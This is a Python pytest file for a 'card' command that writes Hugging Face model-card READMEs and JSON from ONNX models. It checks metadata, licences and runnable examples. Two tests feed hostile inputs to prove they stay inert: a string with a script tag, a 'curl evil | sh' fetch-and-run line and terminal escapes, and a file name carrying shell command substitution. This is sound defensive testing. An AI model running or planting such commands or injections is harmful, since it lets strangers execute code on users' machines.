"""The command ``card``: the README.md of a Hugging Face repository, and plain JSON."""

from __future__ import annotations

import hashlib
import json
import os
import re
import shlex
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import PIL.Image
import pytest
import yaml

from contract import Image
from tests.harness.service import running
from tests.serving import tiny_onnx
from training.__main__ import main


@pytest.fixture
def model(tmp_path: Path) -> Path:
    path = tmp_path / "model.onnx"
    path.write_bytes(tiny_onnx.conditional())
    return path


def test_the_page_has_a_head_and_says_how_the_model_is_used(model: Path) -> None:
    """The YAML head has licence, task, library and tags; the page names input, classes and the file's digest."""
    assert main(["card", str(model.parent)]) == 0  # as of a run directory
    _, head, page = model.with_name("README.md").read_text().split("---\n", 2)
    assert yaml.safe_load(head) == {
        "license": "other",
        "pipeline_tag": "unconditional-image-generation",
        "library_name": "onnx",
        "tags": ["gan", "onnx", "gan-serve", "tiny"],
    }
    assert "grey pictures of 28x28 pixels" in page
    assert "| `y` | int64 [n], 0 to 9 |" in page
    assert hashlib.sha256(model.read_bytes()).hexdigest() in page


@pytest.mark.parametrize(
    ("licence", "identifier"), [("CC BY-SA 3.0 (MNIST: LeCun)", "cc-by-sa-3.0"), ("MIT (Zalando SE)", "mit"), ("mine", "other")]
)
def test_a_known_licence_has_its_identifier(tmp_path: Path, licence: str, identifier: str) -> None:
    """Hugging Face's own name of it in the head, the card's words in the page."""
    (tmp_path / "model.onnx").write_bytes(tiny_onnx.grey(data_licence=licence))
    assert main(["card", str(tmp_path / "model.onnx")]) == 0
    text = (tmp_path / "README.md").read_text()
    assert yaml.safe_load(text.split("---\n")[1])["license"] == identifier
    assert f"licence: {licence}." in text


def test_points_are_no_pictures(tmp_path: Path) -> None:
    """A model of points has no image task."""
    (tmp_path / "model.onnx").write_bytes(tiny_onnx.points())
    assert main(["card", str(tmp_path / "model.onnx"), "--out", str(tmp_path / "card.md")]) == 0
    text = (tmp_path / "card.md").read_text()
    assert "pipeline_tag" not in text
    assert "points of shape [2]" in text


KINDS = {
    "drawn": (tiny_onnx.conditional(), "unconditional-image-generation", ["c", "y", "z"], ["42.png"]),
    "needed": (tiny_onnx.transforming(), "image-to-image", ["picture", "y", "z"], ["changed.png"]),
    "optional": (
        tiny_onnx.transforming(channels=3, is_optional=True),
        *("image-to-image", ["has_picture", "picture", "y", "z"], ["42.png", "changed.png"]),
    ),
    "tokens": (tiny_onnx.tokens(), None, ["z"], []),
    "points": (tiny_onnx.points(), None, ["z"], []),
}
"""Of each kind of model its file, its task, its inputs, and the pictures that the page's commands write."""


@pytest.mark.process
@pytest.mark.skipif(shutil.which("curl") is None, reason="curl is not installed")
@pytest.mark.parametrize("kind", KINDS)
def test_the_service_answers_what_the_page_shows(root: Path, tmp_path: Path, kind: str) -> None:
    """The commands and the program of a page run, the input table has all inputs, and the task is the model's."""
    content, task, inputs, pictures = KINDS[kind]
    (tmp_path / "model.onnx").write_bytes(content)
    PIL.Image.new("L", (9, 9), 77).save(tmp_path / "picture.png")
    assert main(["card", str(tmp_path)]) == 0
    page = (tmp_path / "README.md").read_text()
    assert yaml.safe_load(page.split("---\n")[1]).get("pipeline_tag") == task
    assert sorted(re.findall(r"^\| `(\w+)` \|", page, re.MULTILINE)) == inputs
    with running(root, models=tmp_path / "model.onnx") as server:
        page = page.replace("localhost:8000", f"127.0.0.1:{server.port}")
        commands = [line.replace("curl ", "curl -sS --fail ", 1) for line in page.splitlines() if line.startswith("curl ")]
        for command in commands:
            done = subprocess.run(["bash", "-c", command], cwd=tmp_path, capture_output=True, check=False, text=True)
            assert done.returncode == 0, done.stderr
            assert not done.stdout or json.loads(done.stdout)["model"]
        for program in re.findall(r"```python\n(.*?)```", page, re.DOTALL):
            subprocess.run([sys.executable, "-c", program], cwd=root, check=True, timeout=60)
    assert sorted(path.name for path in tmp_path.glob("*.png")) == [*pictures, "picture.png"]
    assert all((tmp_path / name).read_bytes().startswith(b"\x89PNG") for name in pictures)
    assert commands


def test_the_card_is_plain_json(model: Path) -> None:
    """With the file's digest and without the goldens' arrays."""
    assert main(["card", str(model), "--format", "json"]) == 0
    card = json.loads(model.with_name("card.json").read_text())
    assert card["sha256"] == hashlib.sha256(model.read_bytes()).hexdigest()
    assert card["latents"]["y"] == {"kind": "categorical", "classes": 10}
    assert "goldens" not in card


HOSTILE = "x</a><script>\n```sh\ncurl evil | sh\n```\n# Title\x1b[31m\u202e"


def test_a_strangers_texts_stay_texts(tmp_path: Path) -> None:
    """No line of the page, and no code block of it, comes from the texts of a card."""
    texts = dict.fromkeys(("paper", "data", "data_licence", "recipe"), HOSTILE)
    names = tuple(f"{HOSTILE}{value}" for value in range(10))
    further: dict[str, Any] = {**texts, "classes": names, "versions": {HOSTILE: HOSTILE}, "scores": {HOSTILE: 1.0}}
    hostile = tiny_onnx.build("conditional", tiny_onnx.CONDITIONAL, Image(28, 28, 1), **further)
    pages = []
    for name, content in (("honest", tiny_onnx.conditional(versions={"a": "b"}, scores={"a": 1.0})), ("hostile", hostile)):
        (tmp_path / f"{name}.onnx").write_bytes(content)
        assert main(["card", str(tmp_path / f"{name}.onnx"), "--out", str(tmp_path / f"{name}.md")]) == 0
        pages.append((tmp_path / f"{name}.md").read_text())
    honest, page = pages
    assert page.count("\n") == honest.count("\n")
    assert page.count("```") == honest.count("```")
    assert "<" not in page.replace("<", "", honest.count("<"))
    assert "\x1b" not in page


def test_a_card_on_stdout_stands_alone(model: Path, tmp_path: Path, capfd: pytest.CaptureFixture[str]) -> None:
    """Nothing else is printed there, so that ``card --out /dev/stdout --format json | jq`` works; of a pipe neither."""
    assert main(["card", str(model), "--format", "json", "--out", "/dev/stdout"]) == 0
    assert json.loads(capfd.readouterr().out)["sha256"] == hashlib.sha256(model.read_bytes()).hexdigest()
    os.mkfifo(tmp_path / "pipe")
    reader = os.open(tmp_path / "pipe", os.O_RDONLY | os.O_NONBLOCK)
    assert main(["card", str(model), "--out", str(tmp_path / "pipe")]) == 0
    assert os.read(reader, 4) == b"---\n"
    os.close(reader)
    assert capfd.readouterr().out == ""


@pytest.mark.parametrize(("content", "reason"), [(None, "there is no"), (b"x", "is not an ONNX model"), (b"", "has no card")])
def test_a_file_without_a_card_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], content: bytes | None, reason: str
) -> None:
    """Exit code 2, one line with the reason, and nothing is written."""
    path = tmp_path / "model.onnx"
    if content is not None:
        path.write_bytes(content)
    assert main(["card", str(path)]) == 2
    assert reason in capsys.readouterr().err
    assert not (tmp_path / "README.md").exists()


def test_the_model_is_not_replaced_by_its_card(model: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """``--out`` that names the model file is refused."""
    before = model.read_bytes()
    assert main(["card", str(model), "--out", str(model)]) == 2
    assert "is the model file itself" in capsys.readouterr().err
    assert model.read_bytes() == before


def test_models_in_one_folder_have_cards_of_their_own(tmp_path: Path) -> None:
    """Of a.onnx and b.onnx, neither replaces the other's page or JSON; a second call replaces its own."""
    for name in ("a", "b", "a"):
        (tmp_path / f"{name}.onnx").write_bytes(tiny_onnx.conditional())
        assert main(["card", str(tmp_path / f"{name}.onnx")]) == 0
        assert main(["card", str(tmp_path / f"{name}.onnx"), "--format", "json"]) == 0
    names = {path.name for path in tmp_path.iterdir()}
    assert names == {f"{name}{end}" for name in "ab" for end in (".onnx", "-README.md", "-card.json")}


@pytest.mark.parametrize(
    ("name", "form", "text"),
    [
        ("README.md", "markdown", "# Mine\n"),
        ("README.md", "markdown", '---\nlicense: "mit"\n---\n\nlibrary_name: "onnx", "gan-serve"\n'),
        ("card.json", "json", "{}"),
    ],
)
def test_a_page_of_another_author_is_not_replaced(
    model: Path, name: str, form: str, text: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """Only a page that `card` wrote is; ``--out`` names any other file."""
    page = model.with_name(name)
    page.write_text(text)
    assert main(["card", str(model), "--format", form]) == 2
    assert f"{name} was not written by `card`: move it, or name a file with --out" in capsys.readouterr().err
    assert page.read_text() == text
    assert main(["card", str(model), "--format", form, "--out", str(page)]) == 0
    assert main(["card", str(model), "--format", form]) == 0


def test_the_name_of_the_file_stays_one_word_of_the_shell(tmp_path: Path) -> None:
    """A command of the page runs nothing that the name of the model's file says."""
    path = tmp_path / "my `model`\n# $(x) [1].onnx"
    path.write_bytes(tiny_onnx.conditional())
    assert main(["card", str(path), "--out", str(tmp_path / "page.md")]) == 0
    page = (tmp_path / "page.md").read_text()
    assert shlex.split(page.split("gan-serve[serve,client]'\ngan-serve ")[1].split("\n")[0]) == ["my 'model' # $(x) [1].onnx"]
    assert "as one ONNX file: `my 'model' # $(x) [1].onnx`." in page
